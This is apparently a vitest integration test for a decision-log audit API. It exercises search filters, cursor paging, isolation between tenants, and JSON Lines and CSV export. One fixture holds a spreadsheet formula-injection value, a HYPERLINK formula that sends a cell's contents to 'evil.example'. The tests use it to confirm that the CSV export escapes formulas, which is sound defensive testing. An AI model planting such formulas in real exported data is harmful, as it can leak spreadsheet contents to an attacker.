/**
 * Issue 14, "Found 2": the decision-log explorer's API. `GET /v1/audit` searches the whole log on
 * the server (every filter, free text over reasons, a time range) and pages it by cursor;
 * `GET /v1/audit/export` streams the selection as JSON Lines or CSV. Against a real `warden
 * serve` whose SQLite log holds 100,000 records (written through the store, chained as the
 * gateway chains them) plus a few needles; the people are an admin of every tenant and one
 * viewer of each of two tenants.
 */
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sha256 } from '../../src/auth/credentials.js';
import type { DecisionRecord, NewDecisionRecord } from '../../src/store/records.js';
import { SqliteStore } from '../../src/store/sqlite/sqlite-store.js';
import { serve, type RunningServer } from '../../src/surfaces/http/serve.js';
import { teardown } from '../helpers/teardown.js';
import { nextRequestId, startHarness, type Harness } from '../pipeline/harness.js';
import { fillLog, STEP_MS, syntheticEntry } from './synthetic-log.js';

const TOKENS = { admin: 'xp-admin-token-0123456789', acme: 'xp-acme-viewer-token-012345', rival: 'xp-rival-viewer-token-01234' };
const HUMANS = `
humans:
  tokens:
    - { id: ada, token_hash: "${sha256(TOKENS.admin)}", roles: [admin] }
    - { id: vic, token_hash: "${sha256(TOKENS.acme)}", roles: [viewer], tenant: acme-corp }
    - { id: rita, token_hash: "${sha256(TOKENS.rival)}", roles: [viewer], tenant: competitor-corp }
server: { watch_policies: false, shutdown_grace: 2s }
`;

const COUNT = 100_000;
/** The needle: one record of competitor-corp, alone in every field a filter names. */
const NEEDLE_AT = 61_234;
const NEEDLE = {
  id: 'dec_needle',
  tenant: 'competitor-corp',
  agentId: 'needle-agent',
  resourceId: 'needle_tool',
  sessionId: 'needle-session',
  requestId: 'needle-request',
  policy: 'needle-policy',
  rule: 'needle-rule',
  effect: 'require_approval',
  outcome: 'pending',
  reason: 'held: the zebrafish transfer needs a second pair of eyes',
} satisfies Partial<NewDecisionRecord>;
/** A record whose reason and argument a spreadsheet would run as formulas. */
const FORMULA_AT = 70_000;
const FORMULA_REASON = '=HYPERLINK("http://evil.example/?x="&A1,"click") narwhal';

let h: Harness;
let server: RunningServer;

beforeAll(async () => {
  h = await startHarness(HUMANS, { realClock: true });
  await h.warden.close();
  const store = SqliteStore.open(join(h.dir, 'warden.db'));
  await fillLog(store, COUNT, (i) =>
    i === NEEDLE_AT
      ? syntheticEntry(i, NEEDLE)
      : i === FORMULA_AT
        ? syntheticEntry(i, { agentId: 'formula-agent', reason: FORMULA_REASON, args: { cell: '+1+1', note: 'a, "quoted"\nline' } })
        : syntheticEntry(i),
  );
  await store.close();
  server = await serve(join(h.dir, 'warden.yaml'), { host: '127.0.0.1', port: 0, logger: false, modules: [] });
}, 120_000);

afterAll(async () => {
  await teardown({ 'warden serve': server && (() => server.close()), 'example tool server': h && (() => h.tools.close()) });
});

async function get(path: string, token = TOKENS.admin) {
  const response = await fetch(`${server.url}${path}`, { headers: { authorization: `Bearer ${token}` } });
  const text = await response.text();
  return { status: response.status, headers: response.headers, text, json: () => JSON.parse(text) as unknown };
}

async function records(path: string, token = TOKENS.admin): Promise<DecisionRecord[]> {
  const r = await get(path, token);
  expect(r.status, r.text).toBe(200);
  return r.json() as DecisionRecord[];
}

const needleTime = syntheticEntry(NEEDLE_AT).time;

describe('GET /v1/audit searches the whole log', () => {
  const cases: Array<[filter: string, query: string]> = [
    ['agent', 'agent=needle-agent'],
    ['tool', 'tool=needle_tool'],
    ['effect', 'effect=require_approval'],
    ['policy', 'policy=needle-policy'],
    ['rule', 'rule=needle-rule'],
    ['session', 'session=needle-session'],
    ['request id', 'request=needle-request'],
    ['free text over reasons', 'q=zebrafish'],
    ['free text, word beginnings in any order', 'q=' + encodeURIComponent('PAIR zebra')],
    ['time range', `since=${new Date(needleTime - STEP_MS / 2).toISOString()}&until=${new Date(needleTime + STEP_MS / 2).toISOString()}`],
  ];
  it.each(cases)('finds the one record among 100,000 by %s', async (_, query) => {
    const found = await records(`/v1/audit?${query}`);
    expect(found.map((r) => r.id)).toEqual([NEEDLE.id]);
  });

  it('applies each filter to every record it returns, and combines them', async () => {
    const byAgent = await records('/v1/audit?agent=agent-7&limit=300');
    expect(byAgent).toHaveLength(300);
    expect(byAgent.every((r) => r.agentId === 'agent-7')).toBe(true);
    const byTenant = await records('/v1/audit?tenant=competitor-corp&effect=deny&limit=200');
    expect(byTenant.length).toBe(200);
    expect(byTenant.every((r) => r.tenant === 'competitor-corp' && r.effect === 'deny')).toBe(true);
    const byRule = await records('/v1/audit?rule=rule-17&policy=policy-1&q=policy&limit=50');
    expect(byRule.length).toBeGreaterThan(0);
    expect(byRule.every((r) => r.rule === 'rule-17' && r.policy === 'policy-1' && /\bpolicy/i.test(r.reason))).toBe(true);
    // A word's middle is not a word's beginning: "ebrafish" finds nothing.
    expect(await records('/v1/audit?q=ebrafish')).toEqual([]);
    // Every word must be there.
    expect(await records('/v1/audit?q=zebrafish+nonexistentword')).toEqual([]);
  });

  it('pages by cursor, newest first, without a gap or a repeat while records are written', async () => {
    const all = await records('/v1/audit?tenant=acme-corp&limit=1500');
    const seen: DecisionRecord[] = [];
    let path = '/v1/audit?tenant=acme-corp&limit=500';
    for (let page = 0; page < 3; page++) {
      const r = await get(path);
      expect(r.status).toBe(200);
      seen.push(...(r.json() as DecisionRecord[]));
      const cursor = r.headers.get('x-next-cursor');
      expect(cursor).toBeTruthy();
      expect(r.headers.get('link')).toBe(`</v1/audit?tenant=acme-corp&limit=500&cursor=${cursor}>; rel="next"`);
      path = `/v1/audit?tenant=acme-corp&limit=500&cursor=${cursor}`;
      // A new acme-corp record between pages: newer than the cursor, so not in the next page.
      const call = await fetch(`${server.url}/v1/tools/call`, {
        method: 'POST',
        headers: { authorization: `Bearer ${h.keys['support-agent']}`, 'content-type': 'application/json' },
        body: JSON.stringify({ agent_id: 'support-agent', request_id: nextRequestId(), tool: 'read_orders', arguments: { limit: 1 } }),
      });
      expect(call.status).toBe(200);
    }
    expect(seen.map((r) => r.seq)).toEqual(all.map((r) => r.seq));
    // The last page says there is no next one.
    const last = await get(`/v1/audit?request=needle-request`);
    expect(last.headers.get('x-next-cursor')).toBeNull();
    expect(last.headers.get('link')).toBeNull();
  });

  it('refuses words with no letter or digit, and a cursor it did not give', async () => {
    for (const bad of ['q=%21%21%21', 'cursor=garbage', `cursor=${Buffer.from('before:-3').toString('base64url')}`]) {
      const r = await get(`/v1/audit?${bad}`);
      expect(r.status, bad).toBe(400);
      expect(r.text).toMatch(/q must contain a word|cursor is not one this server gave/);
    }
  });
});

describe('a viewer of one tenant never sees another tenant', () => {
  it('finds nothing of competitor-corp by any filter, words or cursor; competitor-corp\'s viewer finds its record', async () => {
    for (const query of ['request=needle-request', 'agent=needle-agent', 'q=zebrafish', 'rule=needle-rule', 'session=needle-session', 'effect=require_approval']) {
      expect(await records(`/v1/audit?${query}`, TOKENS.acme), query).toEqual([]);
      expect((await records(`/v1/audit?${query}`, TOKENS.rival)).map((r) => r.id), query).toEqual([NEEDLE.id]);
    }
    expect((await get('/v1/audit?tenant=competitor-corp', TOKENS.acme)).status).toBe(403);
    // A cursor is only a place in the log: one taken from the rival's page still reads acme's records.
    const rivalPage = await get('/v1/audit?limit=5', TOKENS.rival);
    const cursor = rivalPage.headers.get('x-next-cursor')!;
    const acmePage = await records(`/v1/audit?limit=200&cursor=${cursor}`, TOKENS.acme);
    expect(acmePage.length).toBe(200);
    expect(acmePage.every((r) => r.tenant === 'acme-corp')).toBe(true);
    // Nor through the export.
    const exported = await get('/v1/audit/export?q=zebrafish&format=csv', TOKENS.acme);
    expect(exported.status).toBe(200);
    expect(exported.text).not.toContain('needle');
    expect((await get('/v1/audit/export?agent=needle-agent', TOKENS.acme)).text).toBe('');
  });
});

describe('GET /v1/audit/export streams the selection', () => {
  it('as JSON Lines, oldest first, every record of the filter', async () => {
    const r = await get('/v1/audit/export?agent=agent-3&format=jsonl');
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toContain('application/x-ndjson');
    const lines = r.text.trim().split('\n').map((l) => JSON.parse(l) as DecisionRecord);
    expect(lines).toHaveLength(COUNT / 50);
    expect(lines.every((l) => l.agentId === 'agent-3')).toBe(true);
    expect(lines.map((l) => l.seq)).toEqual([...lines.map((l) => l.seq)].sort((a, b) => a - b));
  });

  it('as CSV whose cells a spreadsheet cannot run as formulas', async () => {
    const r = await get('/v1/audit/export?q=narwhal&format=csv');
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toContain('text/csv');
    expect(r.headers.get('content-disposition')).toContain('warden-audit.csv');
    const [header, row, end] = r.text.split('\r\n');
    expect(header).toBe('seq,id,time,kind,request_id,tenant,session_id,agent_id,user_id,action,tool,effect,outcome,stage,policy,rule,reason,latency_us,approval_id,args,hash');
    expect(end).toBe('');
    // The reason starts with "=": written as text ('=…), quoted because it holds quotes and commas.
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"") narwhal"`);
    // The arguments are JSON: it starts with "{", so it is only quoted, its newline kept as \n.
    expect(row).toContain('"{""cell"":""+1+1"",""note"":""a, \\""quoted\\""\\nline""}"');
    expect(row).toContain(',formula-agent,');
    // Every row has the header's number of cells (a naive split fails on the quoted commas; count outside quotes).
    expect(cellsOf(row!)).toHaveLength(header!.split(',').length);
  });

  it('as CSV, a whole filter: one row per record plus the header', async () => {
    const r = await get('/v1/audit/export?rule=rule-5&format=csv');
    const rows = r.text.split('\r\n').filter(Boolean);
    const expected = Array.from({ length: COUNT }, (_, i) => i).filter((i) => i % 120 === 5 && i !== NEEDLE_AT && i !== FORMULA_AT).length;
    expect(rows).toHaveLength(expected + 1);
  });
});

/** The cells of one CSV row (RFC 4180: "" inside quotes is a quote). */
function cellsOf(row: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < row.length; i++) {
    const c = row[i]!;
    if (quoted && c === '"' && row[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (c === ',' && !quoted) {
      cells.push(cell);
      cell = '';
    } else {
      cell += c;
    }
  }
  cells.push(cell);
  return cells;
}
